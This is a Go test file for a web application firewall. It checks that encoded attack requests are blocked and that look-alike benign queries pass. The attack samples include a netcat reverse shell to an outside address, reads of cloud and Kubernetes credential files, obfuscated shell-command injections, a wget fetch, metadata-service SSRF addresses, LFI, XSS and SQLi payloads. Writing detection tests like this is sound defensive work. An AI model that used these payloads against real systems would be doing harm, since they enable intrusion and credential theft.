package managed

import (
	"testing"

	"github.com/moatdev/moat/waf"
)

// TestDetectionPatterns: the attack forms the rules were widened for (PHP
// stream wrappers, javascript: URLs, more Linux system files, shell
// commands split by quotes or carets), each caught by the AWS rule whose
// documented intent covers it, and look-alike benign text that must pass.
func TestDetectionPatterns(t *testing.T) {
	t.Parallel()
	all := compile(t, Names()...)
	attacks := []struct {
		rule string
		r    *waf.Request
	}{
		{"GenericLFI_QUERYARGUMENTS", req("GET", "/dl?file=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex.php")},
		{"GenericLFI_QUERYARGUMENTS", req("GET", "/dl?file=PHAR://uploads/x.jpg")},
		{"GenericLFI_BODY", post("/", "page=php://input")},
		{"CrossSiteScripting_QUERYARGUMENTS", req("GET", "/item?id=javascript%3Aalert%281%29")},
		{"CrossSiteScripting_QUERYARGUMENTS", req("GET", "/r?next=JaVaScRiPt%3A%20document.location%3D%27x%27")},
		{"CrossSiteScripting_QUERYARGUMENTS", req("GET", "/r?next=javascript%26%2358%3Balert%601%60")},
		{"CrossSiteScripting_BODY", post("/", "url=vbscript%3Amsgbox(1)")},
		{"CrossSiteScripting_COOKIE", req("GET", "/", "Cookie", "back=javascript:alert(document.cookie)")},
		{"LFI_QUERYSTRING", req("GET", "/?x=%3B+nc+-e+%2Fbin%2Fsh+203.0.113.5+4444")},
		{"LFI_QUERYSTRING", req("GET", "/?f=/var/run/secrets/kubernetes.io/serviceaccount/token")},
		{"LFI_HEADER", req("GET", "/", "X-File", "/home/ec2-user/.aws/credentials")},
		{"UNIXShellCommandsVariables_QUERYARGUMENTS", req("GET", "/?h=x%7C+id")},
		{"UNIXShellCommandsVariables_QUERYARGUMENTS", req("GET", "/?h=x%60whoami%60")},
		{"UNIXShellCommandsVariables_QUERYARGUMENTS", req("GET", "/?h=x%7C%7C+ping+-c+3+127.0.0.1")},
		{"UNIXShellCommandsVariables_QUERYARGUMENTS", req("GET", "/?h=x%7Cw%27h%27o%27am%27i")},
		{"UNIXShellCommandsVariables_BODY", post("/", "h=x%26%26+ls+-la")},
		{"UNIXShellCommandsVariables_BODY", post("/", "h=x|u^n^a^m^e")},
		{"UNIXShellCommandsVariables_QUERYARGUMENTS", req("GET", "/?h=x%3B+sleep+5")},
		{"UNIXShellCommandsVariables_QUERYARGUMENTS", req("GET", "/?h=x%3B+find+%2F+-perm+-4000")},
		{"UNIXShellCommandsVariables_BODY", post("/", "h=x%7C+echo+%24PATH")},
		{"UNIXShellCommandsVariables_BODY", post("/", "h=%7Bwget,http://x.example/a%7D")},
		{"EC2MetaDataSSRF_QUERYARGUMENTS", req("GET", "/f?u=http://0xa9.0xfe.0xa9.0xfe/latest/")},
		{"EC2MetaDataSSRF_QUERYARGUMENTS", req("GET", "/f?u=http://169.254.43518/latest/")},
		{"EC2MetaDataSSRF_QUERYARGUMENTS", req("GET", "/f?u=http://0251.254.169.254/latest/")},
		{"EC2MetaDataSSRF_QUERYARGUMENTS", req("GET", "/f?u=http://169.254.170.23/v1/credentials")},
		{"EC2MetaDataSSRF_BODY", post("/f", `{"url":"http://025177524776/latest/"}`)},
		{"CrossSiteScripting_QUERYARGUMENTS", req("GET", "/f?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E")},
		{"SQLi_QUERYARGUMENTS", req("GET", "/f?id=1%2527%2520or%25201%253D1--")},
	}
	var res waf.Result
	for _, c := range attacks {
		all.Evaluate(c.r, &res)
		if res.Action != waf.Block || res.TerminatingGroupRule != c.rule {
			t.Errorf("%s %s %q: got %s by %s, want BLOCK by %s", c.r.Method, c.r.URI, c.r.Body, res.Action, res.TerminatingGroupRule, c.rule)
		}
	}
	for _, r := range []*waf.Request{
		req("GET", "/search?q=javascript+tutorial+for+beginners"),
		req("GET", "/search?q=javascript%3A+the+good+parts"),
		req("GET", "/search?q=php+filter+examples"),
		req("GET", "/search?q=cat+food+for+seniors"),
		req("GET", "/search?q=id+card+renewal"),
		req("GET", "/search?q=ping+pong+table"),
		req("GET", "/search?q=fish+%26+chips"),
		req("GET", "/search?q=Tom+%26+Jerry+%3C3"),
		req("GET", "/search?q=%2Fetc+is+a+folder+name"),
		req("GET", "/search?q=rock+%27n%27+roll"),
		req("GET", "/search?q=100%2525+cotton"),
		req("GET", "/search?q=%7Bhost%7D+template"),
		req("GET", "/search?q=how+to+use+%7C+in+bash+pipes"),
		req("GET", "/", "Cookie", "_ga=GA1.2.1692541692.1700000000; next=%2Faccount%2Fsettings"),
		req("GET", "/docs?topic=usr+bin", "Referer", "https://man7.org/linux/man-pages/man1/bash.1.html"),
		post("/comments", "comment=Kill+%26+Kill+again%2C+a+novel"),
		post("/comments", "comment=Great+product%3B+more+please"),
		post("/comments", "comment=Arrived+late%3B+find+another+seller"),
		post("/comments", "comment=Bring+food%3B+sleep+well"),
		post("/login", "user=jane&id=5&host=a&ls=1"),
		req("GET", "/map?ll=169.254321,12.5&zoom=169.2541"),
		req("GET", "/order?id=28520391660"),
		post("/comments", "comment=I%27m+here%3B+who%27s+there%3F"),
		post("/comments", "comment=salt+%26+pepper%2C+then+sleep+well"),
		post("/api/orders", `{"item":"zip file of photos","note":"https://example.com/a.zip"}`),
	} {
		if all.Evaluate(r, &res); res.Action != waf.Allow {
			t.Errorf("benign %s %s %q: %s by %s", r.Method, r.URI, r.Body, res.Action, res.TerminatingGroupRule)
		}
	}
}
